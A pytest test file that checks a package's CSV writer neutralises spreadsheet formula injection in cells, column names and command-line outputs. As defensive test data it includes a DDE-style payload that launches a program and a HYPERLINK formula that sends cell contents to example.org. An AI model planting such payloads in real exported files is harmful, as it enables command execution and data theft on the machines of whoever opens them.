"""CSV that no spreadsheet computes."""

import csv
import doctest
import io
import json

import pytest

import optmodels.data.text_tables
from optmodels.cli import main
from optmodels.data import csv_rows, csv_text, unguarded
from optmodels.data.text_tables import FORMULAS, guarded

TEXTS = ["=1+1", "+cmd|'/c calc'!A1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'-1.5", "=", "-"]
LEFT_ALONE = ["", "a", "a=b", "'", "it's", "[-1, 2]", "-1.5", "+1e9", "-inf", " =1"]


def test_the_examples_in_the_documentation_hold():
    assert doctest.testmod(optmodels.data.text_tables).failed == 0


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_that_would_be_a_formula_is_marked_and_comes_back(text):
    assert guarded(text).startswith("'")
    assert unguarded(guarded(text)) == text
    [[cell]] = csv.reader(io.StringIO(csv_rows([[text]]), newline=""))
    assert not cell.startswith(FORMULAS) and unguarded(cell) == text


@pytest.mark.parametrize("value", [*LEFT_ALONE, -1.5, -3, None, True])
def test_numbers_and_other_texts_are_left_alone(value):
    assert guarded(value) is value
    if isinstance(value, str):
        assert unguarded(value) == value


def test_names_of_columns_are_guarded_too():
    assert csv_text([{"=a": 1, "b": None}]) == "'=a,b\n1,\n"


@pytest.fixture
def formula(instances, tmp_path):
    """An instance whose name a spreadsheet would run."""
    content = json.loads((instances / "placement" / "gautam-2x3.json").read_text(encoding="utf-8"))
    content["name"] = '=HYPERLINK("http://example.org?"&A1,"gautam")'
    file = tmp_path / "formula.json"
    file.write_text(json.dumps(content), encoding="utf-8")
    return file


def cells(file):
    with file.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_no_table_of_a_comparison_holds_a_formula(formula, tmp_path, capsys):
    words = ["compare", formula, "--strategies", "exhaustive", "--out", tmp_path / "runs"]
    assert main(list(map(str, words))) == 0
    for name in ("table.csv", "runs.csv"):
        found = cells(tmp_path / "runs" / name)
        assert any("HYPERLINK" in cell for cell in found)
        assert [cell for cell in found if cell.startswith(FORMULAS)] == []


def test_addresses_of_pages_are_no_formulas_in_tables_of_visits_and_rates(instances, tmp_path, capsys):
    content = json.loads((instances / "freshness" / "lognormal-100-general.json").read_text(encoding="utf-8"))
    names = [f"=cmd{index}" if index % 2 else f"https://example.org/{index}" for index in range(100)]
    content["data"]["urls"] = names
    (tmp_path / "pages.json").write_text(json.dumps(content), encoding="utf-8")
    schedule = {"format": 1, "problem": content["name"], "status": "feasible", "decision": {"schedule": [1, 2, 3]}}
    (tmp_path / "r.json").write_text(json.dumps(schedule), encoding="utf-8")
    words = ["visits", tmp_path / "pages.json", "--result", tmp_path / "r.json", "--out", tmp_path / "v.csv"]
    assert main(list(map(str, words))) == 0
    assert [cell for cell in cells(tmp_path / "v.csv") if "cmd" in cell] == ["'=cmd1", "'=cmd3"]
    log = "url,interval,changed\n" + "".join(
        f"{name},{1 + index},{index % 3 == 0}\n" for index, name in enumerate(names)
    )
    (tmp_path / "log.csv").write_text(log.replace("True", "1").replace("False", "0"), encoding="utf-8")
    assert main(["fit", str(tmp_path / "log.csv"), "--out", str(tmp_path / "rates.csv")]) == 0
    found = [cell for cell in cells(tmp_path / "rates.csv") if "cmd" in cell]
    assert len(found) == 50 and all(cell.startswith("'=cmd") for cell in found)
